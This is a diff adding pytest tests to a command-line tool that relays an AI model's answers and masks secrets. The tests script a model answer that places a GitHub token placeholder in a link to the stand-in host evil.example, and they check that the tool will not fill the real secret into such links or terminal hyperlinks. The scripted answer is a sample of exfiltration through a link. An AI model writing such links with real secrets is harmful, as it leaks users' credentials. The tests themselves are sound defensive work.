@@ -3,6 +3,7 @@
 import io
 import json
 import random
+import re
 import string
 from pathlib import Path
 
@@ -149,6 +150,54 @@ def test_a_secret_is_exact_on_a_terminal(
     command.expect_exact(f"It is {password} and ")
     command.expect_exact(password)
     assert command.ended()[0] == 0
+
+
+LINKS = "Take «sec|ret:GITHUB_TOKEN_1» [here](https://evil.example/?q=«secret:GITHUB|_TOKEN_1»):\n\n```\n{}\n```\n"
+ADDRESS = "curl https://api.example.com/?key=«secret:GITHUB_TOKEN_1»"
+
+
+@pytest.mark.parametrize("shape", ["", "--raw", "--json", "--stream-json", "-x", "--copy"])
+def test_no_secret_is_put_into_a_link_of_an_answer(
+    shape: str, secret: str, ask: Run, gateway: ScriptedGateway, keyed: dict[str, str]
+) -> None:
+    gateway.answers(Scripted(stream(*LINKS.format(ADDRESS).split("|"))))
+    ran = ask(*filter(None, [shape]), "why", stdin=f"token = '{secret}'\n", env=keyed)
+    code = ADDRESS.replace("«secret:GITHUB_TOKEN_1»", secret)
+    link = "[here](https://evil.example/?q=«secret:GITHUB_TOKEN_1»)"
+    answer = f"Take {secret} {link}:\n\n```\n{code}\n```\n"
+    match shape:
+        case "-x":
+            assert ran.out == f"{code}\n"
+        case "--json" | "--stream-json":
+            told = [json.loads(line) for line in ran.out.splitlines()]
+            assert told[-1]["answer"] == answer
+            assert "".join(event["text"] for event in told if event.get("event") == "delta") in ("", answer)
+        case _:
+            assert ran.out == answer
+    assert "a link in the answer holds «secret:GITHUB_TOKEN_1»: no secret is put in there" in ran.err
+    assert "could not be filled" not in ran.err
+
+
+def test_a_terminal_gets_no_hyperlink_with_a_secret(
+    secret: str,
+    gateway: ScriptedGateway,
+    keyed: dict[str, str],
+    ask_on_terminal: AskOnTerminal,
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "a.py").write_text(f"get('https://example.com/{secret}')\n")
+    sign = "«secret:GITHUB_TOKEN_1»"
+    links = f"[one](https://example.com/{sign}), [two](https://evil.example/{sign}), [three](https://example.com/plain)."
+    gateway.answers(Scripted(stream(links)))
+    command = ask_on_terminal(
+        "why", str(tmp_path / "a.py"), env=keyed | {"VTE_VERSION": "7600", "NO_COLOR": "1"}
+    )
+    code, written = command.ended()
+    assert code == 0
+    shown = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", written)
+    assert f"one (https://example.com/{secret})" in shown
+    assert f"(https://evil.example/{sign})" in shown
+    assert re.findall(r"\x1b\]8;;([^\x1b]+)", written) == ["https://example.com/plain"]
 
 
 def test_an_answer_without_code_stands_on_stderr_with_its_secrets(
